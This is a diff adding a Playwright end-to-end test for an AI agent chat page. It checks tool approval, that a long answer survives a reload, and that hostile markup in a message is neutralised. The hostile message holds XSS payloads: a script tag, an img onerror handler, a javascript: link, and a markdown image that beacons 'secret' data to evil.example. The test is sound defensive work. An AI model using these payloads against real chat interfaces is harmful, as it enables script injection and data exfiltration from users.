@@ -224,4 +224,43 @@ describeInBrowser('a person with a browser', () => {
     ).toBe(true);
     expect(errors).toEqual([]);
   });
+
+  it('talks to an agent without a key: its tool asks first, a reload loses nothing, and nothing in an answer runs or loads', async () => {
+    const answers = page.locator('[data-testid="message"][data-role="assistant"]');
+    const say = async (text: string) => {
+      await page.getByTestId('composer-text').fill(text);
+      await page.keyboard.press('Enter');
+    };
+    await page.goto(`${base}/chat`);
+    await page.getByTestId('make-example').click();
+    await page.getByTestId('starter').first().click();
+    await page.getByTestId('tool-approve').click();
+    await page.locator('[data-testid="tool-call"][data-state="succeeded"]').waitFor();
+    await page.getByTestId('sandbox-note').waitFor();
+    expect(await page.getByTestId('sandbox-note').getByRole('link').getAttribute('href')).toBe('/models');
+
+    const words = Array.from({ length: 150 }, (_, number) => `w${number}`).join(' ');
+    await say(words);
+    await answers.nth(1).getByText(/w9\b/).waitFor();
+    await page.reload();
+    await answers.and(page.locator('[data-state="succeeded"]')).nth(1).waitFor();
+    const answer = (await answers.nth(1).getByTestId('message-text').textContent()) ?? '';
+    expect(answer.match(/\bw\d+\b/g)?.join(' ')).toBe(words);
+
+    const asked: string[] = [];
+    page.on('request', (request) => asked.push(request.url()));
+    await say(
+      '<script>window.attacked = 1</script> <img src="https://evil.example/a.png" onerror="window.attacked = 1"> ' +
+        '[press](javascript:window.attacked=1) ![pixel](https://evil.example/pixel.png?secret=1)',
+    );
+    await answers.and(page.locator('[data-state="succeeded"]')).nth(2).waitFor();
+    const hostile = answers.nth(2);
+    const pixel = hostile.locator('a[href^="https://evil.example/pixel.png"]');
+    await pixel.waitFor();
+    expect(await pixel.getAttribute('rel')).toContain('noopener');
+    expect(await hostile.locator('script, img, a[href^="javascript:"]').count()).toBe(0);
+    expect(await page.evaluate(() => 'attacked' in window)).toBe(false);
+    expect(asked.filter((url) => url.includes('evil.example'))).toEqual([]);
+    expect(errors).toEqual([]);
+  }, 90_000);
 });
